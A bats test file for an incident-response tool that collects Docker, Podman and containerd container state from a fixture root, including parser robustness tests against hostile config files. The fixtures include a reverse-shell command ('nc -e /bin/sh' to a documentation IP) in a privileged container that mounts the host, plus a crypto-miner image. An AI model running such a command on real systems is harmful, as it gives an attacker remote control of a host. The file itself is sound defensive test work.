#!/usr/bin/env bats
# irt collect: the containers builtin and the container files of the
# built-in profiles, against a fixture root of Docker, Podman and
# containerd state the tests build.

load helper
bats_require_minimum_version 1.5.0

ID1=aaaa000000000000000000000000000000000000000000000000000000000001
ID2=bbbb000000000000000000000000000000000000000000000000000000000002

setup() {
	setup_common
	chmod 755 "$TMP"
	ROOT=$TMP/root
	mkdir -p "$ROOT/etc" "$ROOT/home/ann" "$ROOT/var/log"
	printf 'root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/sh\n' >"$ROOT/etc/passwd"
	echo fixture-host >"$ROOT/etc/hostname"
	local d=$ROOT/var/lib/docker/containers
	mkdir -p "$d/$ID1" "$d/$ID2"
	# a privileged container with the host's / mounted, still running
	cat >"$d/$ID1/config.v2.json" <<EOF
{"State":{"Running":true,"Paused":false,"Restarting":false,"OOMKilled":false,"RemovalInProgress":false,"Dead":false,"Pid":31337,"ExitCode":0,"StartedAt":"2024-05-01T10:00:01.123456789Z","FinishedAt":"0001-01-01T00:00:00Z"},"ID":"$ID1","Created":"2024-05-01T10:00:00.5Z","Path":"/bin/sh","Args":["-c","nc -e /bin/sh 203.0.113.7 4444"],"Config":{"User":"","Image":"alpine:3.19"},"Image":"sha256:feed","Name":"/escape","MountPoints":{"/host":{"Source":"/","Destination":"/host","RW":true,"Type":"bind"}}}
EOF
	echo '{"Binds":["/:/host"],"NetworkMode":"host","Privileged":true,"CapAdd":null,"PidMode":"host"}' >"$d/$ID1/hostconfig.json"
	printf '{"log":"uid=0(root)\\n","stream":"stdout","time":"2024-05-01T10:00:02.000000001Z"}\n' >"$d/$ID1/$ID1-json.log"
	# an exited one
	cat >"$d/$ID2/config.v2.json" <<EOF
{"State":{"Running":false,"Pid":0,"ExitCode":1,"StartedAt":"2024-05-02T08:00:00Z","FinishedAt":"2024-05-02T08:05:00Z"},"ID":"$ID2","Created":"2024-05-02T07:59:00Z","Path":"nginx","Args":[],"Config":{"Image":"nginx:1.25"},"Name":"/web","MountPoints":{}}
EOF
	echo '{"NetworkMode":"bridge","Privileged":false,"CapAdd":["NET_ADMIN"]}' >"$d/$ID2/hostconfig.json"
	# rootful Podman, with the container's OCI spec
	local p=$ROOT/var/lib/containers/storage/overlay-containers
	mkdir -p "$p/p1/userdata"
	echo '[{"id":"p1","names":["db"],"image":"img1","metadata":"{\"image-name\":\"docker.io/library/postgres:16\",\"name\":\"db\"}","created":"2024-05-03T09:00:00Z"}]' >"$p/containers.json"
	echo '{"process":{"args":["postgres"],"user":{"uid":999},"capabilities":{"bounding":["CAP_CHOWN","CAP_KILL"]}},"mounts":[{"destination":"/var/lib/postgresql/data","source":"/srv/pg","type":"bind","options":["rbind"]}],"linux":{"maskedPaths":["/proc/kcore"],"namespaces":[{"type":"pid"},{"type":"network"}]}}' >"$p/p1/userdata/config.json"
	# rootless Podman of ann
	p=$ROOT/home/ann/.local/share/containers/storage/overlay-containers
	mkdir -p "$p"
	echo '[{"id":"r1","names":["miner"],"image":"img2","metadata":"{\"image-name\":\"quay.io/x/xmrig:latest\"}","created":"2024-05-04T01:02:03Z"}]' >"$p/containers.json"
	# a containerd task of Kubernetes
	local b=$ROOT/run/containerd/io.containerd.runtime.v2.task/k8s.io/c1
	mkdir -p "$b"
	echo '{"process":{"args":["/bin/agent"],"capabilities":{"bounding":["CAP_CHOWN","CAP_SYS_ADMIN","CAP_SYS_MODULE"]}},"mounts":[{"destination":"/host","source":"/","type":"bind","options":["rbind","rw"]}],"annotations":{"io.kubernetes.cri.container-name":"agent","io.kubernetes.cri.image-name":"registry.example/agent:2"},"linux":{"namespaces":[{"type":"pid"},{"type":"network","path":"/var/run/netns/cni-42"}]}}' >"$b/config.json"
	echo 4711 >"$b/init.pid"
	PROFILE=$TMP/containers.profile
	printf 'live containers.jsonl builtin=containers\n' >"$PROFILE"
}

teardown() {
	teardown_common
}

collect() {
	run timeout 120 "$IRT" collect --root "$ROOT" --profile "$PROFILE" \
	    -o "$TMP/out.tar.gz" "$@"
}

@test "containers lists Docker, Podman and containerd containers from their files" {
	collect
	[ "$status" -eq 0 ]
	tar -xzOf "$TMP/out.tar.gz" live/containers.jsonl >"$TMP/c.jsonl"
	python3 - "$TMP/c.jsonl" "$ID1" "$ID2" <<'EOF'
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1])]
by = {r["id"]: r for r in rows}
assert len(rows) == 5, rows
assert all("error" not in r for r in rows), rows
r = by[sys.argv[2]]
assert r["runtime"] == "docker" and r["name"] == "escape", r
assert r["config"] == "/var/lib/docker/containers/%s/config.v2.json" % sys.argv[2], r
assert r["image"] == "alpine:3.19" and r["image_id"] == "sha256:feed", r
assert r["created"] == "2024-05-01T10:00:00.500Z", r
assert r["started"] == "2024-05-01T10:00:01.123456789Z", r
assert r["finished"] is None and r["state"] == "running" and r["pid"] == 31337, r
assert r["command"] == ["/bin/sh", "-c", "nc -e /bin/sh 203.0.113.7 4444"], r
assert r["mounts"] == [{"source": "/", "destination": "/host", "type": "bind", "rw": True}], r
assert r["privileged"] is True and r["cap_add"] == [], r
assert r["network_mode"] == "host" and r["pid_mode"] == "host", r
r = by[sys.argv[3]]
assert (r["name"], r["state"], r["exit_code"], r["pid"]) == ("web", "exited", 1, None), r
assert r["finished"] == "2024-05-02T08:05:00Z", r
assert r["privileged"] is False and r["cap_add"] == ["NET_ADMIN"], r
assert r["network_mode"] == "bridge", r
r = by["p1"]
assert (r["runtime"], r["home"], r["name"], r["image"]) == ("podman", None, "db", "docker.io/library/postgres:16"), r
assert r["created"] == "2024-05-03T09:00:00Z" and r["user"] == "999", r
assert r["mounts"] == [{"source": "/srv/pg", "destination": "/var/lib/postgresql/data", "type": "bind", "rw": True}], r
assert r["privileged"] is False and r["network_mode"] == "private", r
r = by["r1"]
assert (r["runtime"], r["home"], r["name"], r["image"]) == ("podman", "/home/ann", "miner", "quay.io/x/xmrig:latest"), r
assert r["config"] == "/home/ann/.local/share/containers/storage/overlay-containers/containers.json", r
assert r["mounts"] is None and r["privileged"] is None, r
r = by["c1"]
assert (r["runtime"], r["namespace"], r["name"], r["pid"]) == ("containerd", "k8s.io", "agent", 4711), r
assert r["image"] == "registry.example/agent:2", r
assert r["privileged"] is True and r["cap_add"] == ["CAP_SYS_ADMIN", "CAP_SYS_MODULE"], r
assert r["network_mode"] == "netns:/var/run/netns/cni-42", r
EOF
	# read from the files: the manifest lists the output like any live entry
	tar -xzOf "$TMP/out.tar.gz" irt/manifest.jsonl | grep -q '"path":"live/containers.jsonl"'
}

@test "hostile container configs are errors in their line, never a hang or a crash" {
	local d=$ROOT/var/lib/docker/containers
	mkdir -p "$d/fifo" "$d/deep" "$d/huge" "$d/link" "$d/utf8"
	mkfifo "$d/fifo/config.v2.json"
	python3 -c 'import sys; sys.stdout.write("[" * 1000000)' >"$d/deep/config.v2.json"
	truncate -s 17M "$d/huge/config.v2.json"
	# a link out of the root resolves inside it: the outside file is
	# never read
	echo '{"ID":"outside"}' >"$TMP/outside.json"
	ln -s "$TMP/outside.json" "$d/link/config.v2.json"
	printf '{"ID":"utf8","Name":"/\xff\xfe\\u001b]0;owned\\u0007","Config":{"Image":"a\\u0000b"}}' >"$d/utf8/config.v2.json"
	collect
	[ "$status" -eq 0 ]
	tar -xzOf "$TMP/out.tar.gz" live/containers.jsonl >"$TMP/c.jsonl"
	# valid JSON with no raw control characters
	run ! grep -qP '[\x00-\x09\x0b-\x1f]' "$TMP/c.jsonl"
	python3 - "$TMP/c.jsonl" "$d" <<'EOF'
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1])]
err = {r["config"].split("/")[-2]: r["error"] for r in rows if "error" in r}
assert err["fifo"] == "not a regular file", err
assert "nesting too deep" in err["deep"], err
assert err["huge"] == "larger than 16 MiB: not read", err
assert err["link"] in ("No such file or directory", "Too many levels of symbolic links"), err
assert not any(r.get("id") == "outside" for r in rows), rows
u = [r for r in rows if r.get("id") == "utf8"][0]
assert u["name"] == "\\xff\\xfe\x1b]0;owned\x07", u
assert u["image"] == "a\x00b", u
# the good containers are still there
assert sum(1 for r in rows if r["runtime"] == "docker" and "error" not in r) == 3, rows
EOF
}

@test "the triage profile takes container state and size-capped logs; the ps commands only run live" {
	local d=$ROOT/var/lib/docker/containers/$ID1
	truncate -s 150M "$d/$ID1-json.log"
	mkdir -p "$ROOT/var/log/pods/default_web_1234/nginx" "$ROOT/var/log/containers"
	echo '2024-05-01T10:00:00.123456789Z stdout F hello' >"$ROOT/var/log/pods/default_web_1234/nginx/0.log"
	ln -s /var/log/pods/default_web_1234/nginx/0.log "$ROOT/var/log/containers/web_default_nginx-$ID2.log"
	run timeout 600 "$IRT" collect --root "$ROOT" --profile triage -o "$TMP/out.tar.gz"
	[ "$status" -eq 0 ]
	tar -xzOf "$TMP/out.tar.gz" irt/manifest.jsonl >"$TMP/m.jsonl"
	python3 - "$TMP/m.jsonl" "$ID1" <<'EOF'
import json, sys
m = {o["path"]: o for o in map(json.loads, open(sys.argv[1]))}
d = "/var/lib/docker/containers/" + sys.argv[2]
for p in (d + "/config.v2.json", d + "/hostconfig.json",
          "/var/lib/containers/storage/overlay-containers/containers.json",
          "/var/lib/containers/storage/overlay-containers/p1/userdata/config.json",
          "/home/ann/.local/share/containers/storage/overlay-containers/containers.json",
          "/run/containerd/io.containerd.runtime.v2.task/k8s.io/c1/config.json",
          "/var/log/pods/default_web_1234/nginx/0.log"):
    assert m[p]["status"] == "ok", (p, m.get(p))
log = m[d + "/" + sys.argv[2] + "-json.log"]
assert log["status"] == "truncated" and log["stored"] == 100 << 20, log
assert m["live/containers.jsonl"]["status"] == "ok", m["live/containers.jsonl"]
for n in ("docker-ps.txt", "podman-ps.txt", "crictl-ps.txt"):
    assert m["live/" + n]["status"] == "skipped", m["live/" + n]
EOF
	tar -tzvf "$TMP/out.tar.gz" | grep -q "fs/var/log/containers/web_default_nginx-$ID2.log -> /var/log/pods/"
}
